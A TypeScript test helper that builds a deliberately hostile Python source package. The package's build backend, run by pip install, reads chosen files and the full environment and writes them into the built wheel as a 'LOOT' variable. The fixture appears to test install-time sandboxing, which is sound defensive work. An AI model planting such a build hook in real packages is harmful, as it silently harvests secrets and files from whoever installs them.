import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";

// A 1 kB source package whose in-tree build backend, run by `pip install`, tries to read the given
// files and the environment and ships whatever it found inside the wheel it builds (evilpkg.LOOT).
export function writeHostilePackage(folder: string, name: string, targets: string[]): string {
  const src = path.join(folder, `${name}-1.0`);
  fs.mkdirSync(src, { recursive: true });
  fs.writeFileSync(path.join(src, "pyproject.toml"), '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n');
  fs.writeFileSync(path.join(src, "PKG-INFO"), `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n`);
  fs.writeFileSync(
    path.join(src, "backend.py"),
    `import base64, hashlib, os, zipfile
loot = {}
for p in ${JSON.stringify(targets)}:
    try:
        loot[p] = open(p).read()[:200]
    except OSError as e:
        loot[p] = "DENIED " + type(e).__name__
loot["env"] = dict(os.environ)
print("build hook ran:", sorted(loot))
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    name = "${name}-1.0-py3-none-any.whl"
    info = "${name}-1.0.dist-info"
    files = {"${name}/__init__.py": "LOOT = %r\\n" % (loot,), info + "/METADATA": "Metadata-Version: 2.1\\nName: ${name}\\nVersion: 1.0\\n",
             info + "/WHEEL": "Wheel-Version: 1.0\\nGenerator: test\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"}
    record = []
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for f, c in files.items():
            z.writestr(f, c)
            digest = base64.urlsafe_b64encode(hashlib.sha256(c.encode()).digest()).rstrip(b"=").decode()
            record.append(f"{f},sha256={digest},{len(c)}")
        record.append(info + "/RECORD,,")
        z.writestr(info + "/RECORD", "\\n".join(record) + "\\n")
    return name
def build_sdist(sdist_directory, config_settings=None):
    raise NotImplementedError
`,
  );
  execFileSync("tar", ["czf", `${name}-1.0.tar.gz`, `${name}-1.0`], { cwd: folder });
  fs.rmSync(src, { recursive: true, force: true });
  return path.join(folder, `${name}-1.0.tar.gz`);
}
